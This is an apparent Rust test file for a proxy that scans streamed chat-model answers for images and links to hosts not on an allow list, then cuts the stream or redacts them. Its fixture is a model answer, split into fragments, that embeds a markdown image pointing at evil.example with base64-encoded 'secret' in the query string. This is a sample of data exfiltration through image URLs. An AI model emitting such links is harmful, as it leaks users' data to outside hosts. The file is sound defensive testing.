//! An answer that carries data away in the address of an image: of the address nothing reaches the client.

use super::streams::{CHAT, begun_under, delta};

fn policy(action: &str) -> String {
    format!(
        "{{ version: 1, name: p, expose: none, rules: [{{ id: links, scope: [output], action: {action},
            detect: {{ urls: {{ in: [image, link], allow_hosts: [docs.acme.com] }} }} }}] }}"
    )
}

/// As a model says it: a few letters at a time.
const ANSWER: &[&str] =
    &["As you ", "see: !", "[a ch", "art]", "(htt", "ps:", "//ev", "il.exam", "ple/p.png", "?d=c2Vj", "cmV0", ") So "];

#[tokio::test]
async fn a_stream_is_cut_before_an_address_that_is_not_allowed() {
    let (mut client, mut server, _proxy) = begun_under(&policy("block"), CHAT, "text/event-stream").await;
    server.write(ANSWER.iter().map(|piece| delta(piece)).collect::<String>()).await;
    let all = client.read_to("data: [DONE]\n\n").await;
    assert!(all.contains("As you ") && all.contains("content_filter"), "{all}");
    for part in ["htt", "evil", "c2Vj", "cmV0", "So "] {
        assert!(!all.contains(part), "{part} in {all}");
    }
}

#[tokio::test]
async fn an_address_is_taken_out_and_the_markdown_stays() {
    let (mut client, mut server, _proxy) = begun_under(&policy("redact"), CHAT, "text/event-stream").await;
    for piece in ANSWER {
        server.write(delta(piece)).await;
    }
    server.write(delta("[this](https://docs.acme.com/a) page.")).await;
    server.write("data: [DONE]\n\n").await;
    let all = client.read_to("data: [DONE]\n\n").await;
    let said: String = all.split("\"content\":\"").skip(1).filter_map(|rest| rest.split('"').next()).collect();
    assert_eq!(said, "As you see: ![a chart]() So [this](https://docs.acme.com/a) page.");
}
